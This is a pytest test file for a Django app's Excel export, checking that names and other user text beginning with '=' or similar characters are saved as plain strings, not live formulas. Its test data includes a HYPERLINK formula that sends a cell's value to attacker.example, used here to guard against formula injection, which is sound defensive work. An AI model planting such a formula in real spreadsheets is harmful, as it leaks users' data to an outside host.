"""A text typed by a user stays text in "Xuất Excel": never a live formula (security review of issue 8)."""

from __future__ import annotations

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from bontot.spreadsheets.export import write_xlsx

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://attacker.example/?x="&B2,"Bấm để xem")'


def _cells(content: bytes) -> list:
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def test_the_members_export_keeps_a_name_beginning_with_equals_as_text(client, world):
    member = world.members["other_a"]  # MemberForm and the Excel import accept any text as a name
    member.full_name = HYPERLINK
    member.save(update_fields=["full_name"])
    client.force_login(world.users["office"])
    response = client.get(reverse("members:list") + "?xuat=xlsx")
    cells = _cells(b"".join(response.streaming_content))
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    assert HYPERLINK in [cell.value for cell in cells]


@pytest.mark.parametrize("text", ["=1+2", "#N/A", "=", "+1", "-", "@SUM(A1)"])
def test_write_xlsx_writes_every_text_as_a_string(text):
    out = io.BytesIO()
    write_xlsx(out, "Thử", ["Tên"], [[text, 3, None]])
    sheet = load_workbook(io.BytesIO(out.getvalue())).worksheets[0]
    value, number = sheet["A2"], sheet["B2"]
    assert (value.value, value.data_type) == (text, "s")
    assert (number.value, number.data_type) == (3, "n")
